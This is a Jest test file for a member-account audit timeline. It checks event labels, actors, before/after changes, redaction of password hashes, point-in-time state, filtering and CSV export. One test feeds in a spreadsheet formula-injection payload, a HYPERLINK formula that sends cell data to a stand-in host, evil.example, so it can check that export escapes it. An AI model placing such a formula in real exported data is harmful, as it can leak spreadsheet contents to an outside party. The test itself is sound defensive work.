import { describe, expect, it } from '@jest/globals';
import { type RecordedEvent } from '../event-sourcing/events.js';
import { defaultEventLabel, describeActor } from './labels.js';
import { auditQuerySchema, auditStateQuerySchema } from './schemas.js';
import { auditCsvLine, auditStateAt, foldAuditStream, matchesAuditFilter } from './timeline.js';

const userID = '3f1c2a8e-1b2c-4d5e-8f90-1234567890ab';
const adminID = '9a8b7c6d-1b2c-4d5e-8f90-1234567890ab';
let position = 0;
const at = (day: number) => `2026-03-${String(day).padStart(2, '0')}T10:00:00.000Z`;
const event = (
  type: string,
  data: object,
  day: number,
  actor: string | null = adminID,
  correlationId = `c${day}`,
): RecordedEvent => {
  position += 1;
  return {
    eventId: `e${position}`,
    streamId: `user-${userID}`,
    version: position,
    position,
    type,
    data,
    metadata: { actor, correlationId, causationId: null, timestamp: at(day) },
    recordedAt: at(day),
  };
};

const history = (): RecordedEvent[] => {
  position = 0;
  return [
    event(
      'UserRegistered',
      {
        userID,
        membershipTier: 'member',
        passwordHash: 'secret-hash',
        personal: { email: 'ada@example.org', firstName: 'Ada', lastName: 'Lovelace' },
      },
      1,
      userID,
    ),
    event(
      'MembershipTierChanged',
      {
        userID,
        fromTier: 'member',
        toTier: 'fellow',
        effective: 'immediately',
        toTierPaid: true,
        token: true,
        actor: 'provider:stripe',
        reason: null,
      },
      3,
      null,
    ),
    event('UserBanned', { userID, reason: 'Spam in the journal', by: adminID }, 5),
    event('SomethingNewHappened', { userID, personal: { nickname: 'Countess' }, flags: { loud: true } }, 6),
    event('UserUnbanned', { userID, reason: 'Appeal accepted', by: adminID }, 7),
  ];
};

describe('the audit timeline of a stream', () => {
  it('when a stream is folded, then each entry carries its actor, reason and the fields it changed as before → after', () => {
    const { entries } = foldAuditStream(history());
    const tier = entries[1]!;
    expect(tier.label).toBe('Tier changed to fellow (from member)');
    expect(describeActor(tier.actor)).toBe('Stripe');
    expect(tier.changes).toEqual([
      { field: 'tier', before: 'member', after: 'fellow' },
      { field: 'token', before: null, after: true },
    ]);
    const ban = entries[2]!;
    expect({ label: ban.label, actor: ban.actor, reason: ban.reason }).toEqual({
      label: 'Banned',
      actor: adminID,
      reason: 'Spam in the journal',
    });
    expect(ban.changes).toEqual([
      { field: 'status', before: 'active', after: 'banned' },
      { field: 'banReason', before: null, after: 'Spam in the journal' },
    ]);
  });

  it('when the member signed up, then the password hash is never shown and the actor is the member', () => {
    const signUp = foldAuditStream(history()).entries[0]!;
    expect(signUp.actor).toBe(userID);
    expect(signUp.changes.map((c) => c.field)).not.toContain('passwordHash');
    expect(JSON.stringify(signUp)).not.toContain('secret-hash');
  });

  it('when an event type the audit does not know is folded, then it gets a readable label and its fields as changes', () => {
    const entry = foldAuditStream(history()).entries[3]!;
    expect(entry.label).toBe('Something new happened');
    expect(entry.changes).toEqual([
      { field: 'nickname', before: null, after: 'Countess' },
      { field: 'flags.loud', before: null, after: true },
    ]);
    expect(defaultEventLabel('ShipmentRequested')).toBe('Shipment requested');
  });

  it('when the state is asked as of a moment before the ban, then the member is active with the old tier', () => {
    expect(auditStateAt(history(), new Date(at(2)))).toMatchObject({
      status: 'active',
      tier: 'member',
      banReason: null,
    });
    expect(auditStateAt(history(), new Date(at(5)))).toMatchObject({
      status: 'banned',
      tier: 'fellow',
      banReason: 'Spam in the journal',
    });
    expect(auditStateAt(history(), new Date('2020-01-01T00:00:00Z'))).toBeNull();
  });

  it('when entries are filtered by type and dates, then only those in range remain', () => {
    const { entries } = foldAuditStream(history());
    const query = auditQuerySchema.parse({
      type: 'UserBanned,UserUnbanned',
      from: '2026-03-06',
      to: '2026-03-07',
    });
    expect(entries.filter((e) => matchesAuditFilter(e, query)).map((e) => e.type)).toEqual(['UserUnbanned']);
  });

  it('when an entry is exported as CSV, then commas and quotes are quoted', () => {
    const entry = { ...foldAuditStream(history()).entries[2]!, reason: 'Spam, "lots"' };
    expect(auditCsvLine(entry)).toContain('"Spam, ""lots"""');
  });

  it('when a reason or an actor’s name would be a spreadsheet formula, then its cell is text', () => {
    const reason = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
    const entry = { ...foldAuditStream(history()).entries[2]!, reason, actorName: '@Mallory' };
    const cells = auditCsvLine(entry);
    expect(cells).toContain(`'@Mallory,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`);
    expect(cells).not.toMatch(/(^|,)"?[=@]/);
  });
});

describe('the audit query', () => {
  it('when a date is not ISO 8601, then the field is named', () => {
    const result = auditQuerySchema.safeParse({ from: 'yesterday' });
    expect(result.success ? [] : result.error.issues.map((i) => i.path.join('.'))).toEqual(['from']);
    expect(auditStateQuerySchema.safeParse({}).success).toBe(false);
    expect(auditQuerySchema.safeParse({ page: '0' }).success).toBe(false);
  });
});
